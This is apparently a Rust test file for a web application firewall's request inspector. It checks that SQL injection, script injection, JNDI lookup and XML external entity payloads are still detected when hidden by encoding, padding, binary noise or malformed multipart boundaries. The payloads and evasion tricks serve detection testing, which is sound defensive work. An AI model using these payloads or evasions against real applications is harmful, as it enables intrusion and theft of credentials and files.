//! What attackers do so that a request is read otherwise than the application reads it.

use std::io::Write;

use bartizan_inspect::detect::{Findings, Place, Sensitivity};
use bartizan_inspect::{WebRequest, sqli};

/// Whether SQL injection, or signs of it, are found in a place.
fn found(place: Place, query: &[u8], headers: &[(&[u8], &[u8])], body: &[u8]) -> bool {
    let mut request = WebRequest::new(std::net::Ipv4Addr::LOCALHOST.into(), b"/");
    request.query = query;
    request.headers = headers;
    request.body = body;
    Findings::of(&request).all().iter().any(|finding| finding.place == place)
}

fn in_body(media: &[&str], body: &[u8]) -> bool {
    let headers: Vec<(&[u8], &[u8])> =
        media.iter().map(|media| (b"content-type".as_slice(), media.as_bytes())).collect();
    found(Place::Body, b"", &headers, body)
}

#[test]
fn bytes_that_are_no_text_hide_nothing() {
    for query in [
        "id=1'+UNION+SELECT+password+FROM+users--+%01%C3%A9",
        "id=1'%01or%01'1'='1%C3%A9",
        "id=%C3%A9%01%3Cscript%3Ealert(1)%3C/script%3E",
        "id=1'+UNION+SELECT+password+FROM+users--+%01%02%01%02%80%80%80%80%80%80%80%80%80%80%80",
        "%3Cxml%3E=1'+UNION+SELECT+password+FROM+users--",
    ] {
        assert!(found(Place::Query, query.as_bytes(), &[], b""), "{query}");
    }
    let text = b"1' UNION SELECT password FROM users-- \x01\xc3\xa9";
    assert!(sqli::detect(text, Sensitivity::Low).is_some());
}

#[test]
fn files_are_looked_at_for_runs_of_text() {
    let noise = b"\x00\x01\xff\xfe".repeat(200);
    let head = b"--b\r\ncontent-disposition: form-data; name=\"f\"; filename=\"a.png\"\r\n\r\n";
    let text = b"1' UNION SELECT password FROM users-- ";
    let media = ["multipart/form-data; boundary=b"];
    for (text, expected) in [(text.as_slice(), true), (b"nothing to see", false)] {
        let body = [head, noise.as_slice(), text, &noise, b"\r\n--b--\r\n"].concat();
        assert_eq!(in_body(&media, &body), expected);
    }
}

#[test]
fn compressed_data_are_no_path_that_a_zero_byte_ends() {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(b"Nothing to see: a shopping list with milk, bread and apples.").unwrap();
    let compressed = encoder.finish().unwrap();
    assert!(compressed.ends_with(b"\0"));
    for media in ["text/plain", "application/x-www-form-urlencoded", "application/octet-stream"] {
        assert!(!in_body(&[media], &compressed), "{media}");
        assert!(in_body(&[media], b"files/report.pdf\0"), "{media}");
    }
}

#[test]
fn a_form_is_read_as_one_whatever_it_looks_like() {
    for body in [
        "<?xml&id=1'+UNION+SELECT+password+FROM+users--",
        "<!DOCTYPE=1&q=1'+UNION+SELECT+password+FROM+users--",
        "\"a=1&id=1%27+UNION+SELECT+password+FROM+users--+\"",
    ] {
        assert!(in_body(&["application/x-www-form-urlencoded"], body.as_bytes()), "{body}");
        let both = ["application/json", "application/x-www-form-urlencoded"];
        assert!(in_body(&both, body.as_bytes()), "{body}");
    }
    for body in ["<?xml 1' UNION SELECT password FROM users-- ?><a/>", "<!DOCTYPE 1' or '1'='1"] {
        assert!(in_body(&["text/xml"], body.as_bytes()), "{body}");
        assert!(in_body(&["text/plain"], body.as_bytes()), "{body}");
    }
}

const ATTACK: &str = "1' UNION SELECT password FROM users-- ";

fn part(boundary: &str, content: &str) -> String {
    format!("--{boundary}\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{content}\r\n")
}

#[test]
fn parts_are_found_as_any_reader_finds_them() {
    for (media, body) in [
        ("boundary=b", part("b", &format!("x--b--{ATTACK}"))),
        ("boundary=b", part("b", &format!("x\r\n--bx {ATTACK}"))),
        ("boundary=b", part("b", "x") + "--b--\r\n" + ATTACK),
        ("boundary=b", part("b", "x") + "--b--\r\n" + &part("b", ATTACK)),
        ("boundary=b", ATTACK.to_owned() + "\r\n" + &part("b", "x")),
        ("boundary=b", ATTACK.to_owned()),
        ("boundary=b", format!("--b\r\n{ATTACK}\r\n--b--\r\n")),
        ("boundary=b", "id=1%27%20UNION%20SELECT%20password%20FROM%20users--".to_owned()),
        ("xboundary=zz; boundary=b", part("b", ATTACK)),
        ("x=\"boundary=zz\"; Boundary = \"b\"", part("b", ATTACK)),
        ("boundary=b c", part("b c", ATTACK)),
        ("charset=utf-8", part("b", ATTACK)),
    ] {
        let media = format!("multipart/form-data; {media}");
        assert!(in_body(&[&media], body.as_bytes()), "{media}\n{body}");
        assert!(in_body(&["text/plain", &media], body.as_bytes()), "{media}\n{body}");
    }
}

#[test]
fn a_byte_order_mark_hides_nothing() {
    let json = "\u{feff}{\"a\": \"1' UNION SELECT password FROM users-- \"}";
    assert!(in_body(&["application/json"], json.as_bytes()));
}

#[test]
fn work_hides_nothing() {
    let payload = "&x=1' union select password from users-- ";
    for lead in
        ["%2525", "\\u0041", "a=b&", "onx=", ":", "[[", "&&l", "../x", "a=..%2f&", "a='%27&"]
    {
        let text = format!("{}{payload}", lead.repeat(8192 / lead.len())).into_bytes();
        for media in ["text/plain", "application/x-www-form-urlencoded"] {
            assert!(in_body(&[media], &text), "{media}: {lead}");
        }
        assert!(found(Place::Query, &text, &[], b""), "query: {lead}");
    }
}

#[test]
fn many_short_values_are_no_attack() {
    for pair in ["id=ab-7&", "name=a%20b&", "x=1.5&"] {
        let text = pair.repeat(8192 / pair.len()).into_bytes();
        assert!(!found(Place::Query, &text, &[], b""), "query: {pair}");
        assert!(!in_body(&["application/x-www-form-urlencoded"], &text), "form: {pair}");
    }
    let body = format!("[{}\"\"]", "\"ab cd\",".repeat(1000));
    assert!(!in_body(&["application/json"], body.as_bytes()));
}

/// A text that is long, and decodes to another.
fn long_and_escaped(text: &str) -> String {
    format!("{text} {} &lt; ", "and some more of it, as people write. ".repeat(60))
}

#[test]
fn a_long_text_hides_nothing_behind_what_it_decodes_to() {
    // The quote that is decoded ends what the one behind it should begin.
    let cut = long_and_escaped("a%27 is a quote ' or 1=1 -- ");
    assert!(in_body(&["text/plain"], cut.as_bytes()));
    for attack in [
        "<script>go()</script>",
        "&lt;script>go()&lt;/script>",
        "\\u003cscript\\u003ego()</script>",
        "1&#39; union select password from users -- ",
        "1' union select password from users -- ",
        "${jndi:ldap://x.example/a}",
        "%24{jndi:ldap://x.example/a}",
        "%253Cscript>go()</script>",
    ] {
        let text = long_and_escaped(attack);
        assert!(in_body(&["text/plain"], text.as_bytes()), "{attack}");
    }
    assert!(!in_body(&["text/plain"], long_and_escaped("Nothing to see.").as_bytes()));
}

#[test]
fn a_document_is_looked_at_whatever_it_is_sent_as() {
    let entity =
        b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>";
    for media in
        ["text/plain", "application/xml", "application/x-www-form-urlencoded", "image/svg+xml"]
    {
        assert!(in_body(&[media], entity), "{media}");
    }
    assert!(in_body(&[], entity));
}
